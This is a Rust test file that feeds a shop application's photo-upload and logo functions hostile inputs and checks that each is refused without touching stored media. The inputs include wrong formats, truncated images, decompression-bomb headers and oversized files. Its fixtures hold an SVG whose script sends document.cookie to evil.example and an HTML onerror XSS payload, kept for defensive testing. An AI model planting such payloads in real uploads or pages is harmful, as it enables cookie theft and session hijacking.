//! Hostile photos through `Shop::add_photo`, `add_photo_file` and `set_logo`: wrong magic,
//! truncations, decompression bombs, empty and oversized files; refused, media untouched.

use std::io::Cursor;

use image::{ImageFormat, RgbImage};
use shopcast_core::ErrorCode;

use super::{Tally, snapshot};
use crate::{product, shop_with};

const CMYK_JPEG: &[u8] = include_bytes!("fixtures/cmyk.jpg");
const ANIMATED_WEBP: &[u8] = include_bytes!("fixtures/anim.webp");

fn encoded(format: ImageFormat) -> Vec<u8> {
    let image = RgbImage::from_fn(64, 48, |x, y| {
        image::Rgb([(x * 4) as u8, (y * 5) as u8, 90])
    });
    let mut bytes = Cursor::new(Vec::new());
    image.write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

/// CRC-32 (ISO-HDLC) as PNG chunks carry it.
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A PNG whose header claims `width`×`height` (RGBA, 8 bit) followed by a tiny IDAT.
fn png_claiming(width: u32, height: u32) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |kind: &[u8], data: &[u8]| {
        png.extend((data.len() as u32).to_be_bytes());
        let mut body = kind.to_vec();
        body.extend(data);
        png.extend(&body);
        png.extend(crc32(&body).to_be_bytes());
    };
    let mut ihdr = Vec::new();
    ihdr.extend(width.to_be_bytes());
    ihdr.extend(height.to_be_bytes());
    ihdr.extend([8, 6, 0, 0, 0]);
    chunk(b"IHDR", &ihdr);
    // zlib of a few zero bytes: nowhere near the pixels the header promises.
    chunk(
        b"IDAT",
        &[0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01],
    );
    chunk(b"IEND", &[]);
    png
}

/// A baseline JPEG header claiming `width`×`height` and nothing after it.
fn jpeg_claiming(width: u16, height: u16) -> Vec<u8> {
    let mut jpeg = vec![0xff, 0xd8, 0xff, 0xc0, 0x00, 0x11, 0x08];
    jpeg.extend(height.to_be_bytes());
    jpeg.extend(width.to_be_bytes());
    jpeg.extend([0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01]);
    jpeg.extend([0xff, 0xd9]);
    jpeg
}

/// A lossless WebP header claiming `width`×`height` (at most 16384 each) and no pixels.
fn webp_claiming(width: u32, height: u32) -> Vec<u8> {
    let bits = (width - 1) | ((height - 1) << 14);
    let mut vp8l = vec![0x2f];
    vp8l.extend(bits.to_le_bytes());
    vp8l.extend([0u8; 8]);
    let mut webp = b"RIFF".to_vec();
    webp.extend((4 + 8 + vp8l.len() as u32).to_le_bytes());
    webp.extend(b"WEBPVP8L");
    webp.extend((vp8l.len() as u32).to_le_bytes());
    webp.extend(vp8l);
    webp
}

fn cut(bytes: &[u8], keep: usize) -> Vec<u8> {
    bytes[..keep.min(bytes.len())].to_vec()
}

fn flipped(bytes: &[u8], from: usize) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    for byte in bytes.iter_mut().skip(from).take(24) {
        *byte ^= 0x5a;
    }
    bytes
}

fn cases() -> Vec<(&'static str, Vec<u8>, ErrorCode)> {
    use ErrorCode::{
        PhotoBroken as Broken, PhotoTooLarge as TooLarge, PhotoUnsupported as Unsupported,
    };
    let png = encoded(ImageFormat::Png);
    let jpeg = encoded(ImageFormat::Jpeg);
    let webp = encoded(ImageFormat::WebP);
    let mut oversized = png.clone();
    oversized.resize(20 * 1024 * 1024 + 1, 0);
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch('//evil.example/'+document.cookie)</script></svg>"#;
    vec![
        ("0 bytes", Vec::new(), Broken),
        ("one byte", vec![0xff], Unsupported),
        ("over 20 MB", oversized, TooLarge),
        ("text", b"just some words".to_vec(), Unsupported),
        ("random bytes", (0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect(), Unsupported),
        ("SVG with script", svg.to_vec(), Unsupported),
        ("SVG with an XML prolog", [b"<?xml version=\"1.0\"?>".as_slice(), svg].concat(), Unsupported),
        ("HTML page", b"<!DOCTYPE html><img src=x onerror=alert(1)>".to_vec(), Unsupported),
        ("GIF", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;".to_vec(), Unsupported),
        ("BMP", b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0".to_vec(), Unsupported),
        ("TIFF", b"II*\0\x08\0\0\0\0\0".to_vec(), Unsupported),
        ("ICO", b"\0\0\x01\0\x01\0\x10\x10\0\0".to_vec(), Unsupported),
        ("PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj".to_vec(), Unsupported),
        ("ELF binary", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec(), Unsupported),
        ("ZIP", b"PK\x03\x04\x14\0\0\0\x08\0".to_vec(), Unsupported),
        ("RIFF but AVI", b"RIFF\x10\0\0\0AVI LIST\0\0\0\0".to_vec(), Unsupported),
        ("PNG magic only", cut(&png, 8), Broken),
        ("PNG cut in IHDR", cut(&png, 20), Broken),
        ("PNG cut after IHDR", cut(&png, 33), Broken),
        ("PNG cut halfway", cut(&png, png.len() / 2), Broken),
        ("PNG with damaged pixels", flipped(&png, png.len() / 2), Broken),
        ("PNG claiming 100000x100000", png_claiming(100_000, 100_000), Broken),
        ("PNG claiming 12001x1", png_claiming(12_001, 1), Broken),
        ("PNG claiming 12000x12000 RGBA", png_claiming(12_000, 12_000), Broken),
        ("PNG claiming 0x0", png_claiming(0, 0), Broken),
        ("PNG claiming u32::MAX wide", png_claiming(u32::MAX, 1), Broken),
        ("JPEG start marker only", cut(&jpeg, 2), Unsupported),
        ("JPEG cut in its tables", cut(&jpeg, 40), Broken),
        ("JPEG header without scan", cut(&jpeg, jpeg.windows(2).position(|w| w == [0xff, 0xda]).unwrap()), Broken),
        ("JPEG claiming 65500x65500", jpeg_claiming(65_500, 65_500), Broken),
        ("JPEG claiming 0x0", jpeg_claiming(0, 0), Broken),
        ("WebP header only", cut(&webp, 12), Broken),
        ("WebP cut halfway", cut(&webp, webp.len() / 2), Broken),
        ("WebP claiming 16384x16384", webp_claiming(16_384, 16_384), Broken),
        ("WebP claiming 12001x1", webp_claiming(12_001, 1), Broken),
    ]
}

#[tokio::test]
async fn hostile_photos_are_refused_and_leave_media_untouched() {
    let mut tally = Tally::new("photos");
    let (shop, _dir) = shop_with("CNY").await;
    let id = product(&shop, "Photo target", "1", None).await;
    let mut before = snapshot(&shop).await;
    for (name, bytes, code) in cases() {
        tally.refused(name, shop.add_photo(id, bytes.clone()).await, code);
        tally.unchanged(name, &shop, &mut before).await;
        let logo = format!("logo: {name}");
        tally.refused(&logo, shop.set_logo(bytes).await, code);
        tally.unchanged(&logo, &shop, &mut before).await;
    }

    // By path: what a dialog or the CLI could hand over.
    let files = tempfile::tempdir().unwrap();
    let sparse = files.path().join("sparse.png");
    let file = std::fs::File::create(&sparse).unwrap();
    file.set_len(50 * 1024 * 1024 * 1024).unwrap(); // 50 GB, never read
    let paths = [
        ("a 50 GB file", sparse, ErrorCode::PhotoTooLarge),
        (
            "a missing file",
            files.path().join("missing.png"),
            ErrorCode::Io,
        ),
        ("a folder", files.path().to_path_buf(), ErrorCode::Io),
        ("/dev/null", "/dev/null".into(), ErrorCode::PhotoBroken),
    ];
    for (name, path, code) in paths {
        tally.refused(name, shop.add_photo_file(id, &path).await, code);
        tally.unchanged(name, &shop, &mut before).await;
    }

    // A good photo for a product that is not there: refused before the media is written.
    let name = "good PNG for a missing product";
    let good = encoded(ImageFormat::Png);
    let good_file = files.path().join("good.png");
    std::fs::write(&good_file, &good).unwrap();
    tally.refused(
        name,
        shop.add_photo(999_999, good).await,
        ErrorCode::NotFound,
    );
    tally.unchanged(name, &shop, &mut before).await;
    let name = "good PNG file for a missing product";
    tally.refused(
        name,
        shop.add_photo_file(999_999, &good_file).await,
        ErrorCode::NotFound,
    );
    tally.unchanged(name, &shop, &mut before).await;
    let tried = tally.finish();
    assert!(tried >= 70, "{tried}");
}

/// Odd photos that are still photos: a CMYK JPEG and an animated WebP are read as one still
/// image (the first frame) and thumbnailed in RGB, so every network and PDF can show them.
#[tokio::test]
async fn cmyk_jpeg_and_animated_webp_are_kept_as_still_photos() {
    let mut tally = Tally::new("photos, odd but readable");
    let (shop, _dir) = shop_with("CNY").await;
    let id = product(&shop, "Odd photos", "1", None).await;
    for (name, bytes, mime, size) in [
        ("CMYK JPEG", CMYK_JPEG, "image/jpeg", (16, 12)),
        ("animated WebP", ANIMATED_WEBP, "image/webp", (8, 8)),
    ] {
        let result = shop.add_photo(id, bytes.to_vec()).await;
        let ok = match &result {
            Ok(product) => product.photos.last().is_some_and(|photo| {
                let thumb = shop
                    .media()
                    .read(&photo.hash, shopcast_core::Variant::Thumb)
                    .map(|(bytes, _)| image::load_from_memory(&bytes).unwrap().color());
                photo.mime == mime
                    && (photo.width, photo.height) == size
                    && thumb == Some(image::ColorType::Rgb8)
            }),
            Err(_) => false,
        };
        tally.check(name, ok, || format!("{result:?}"));
    }
    tally.finish();
}
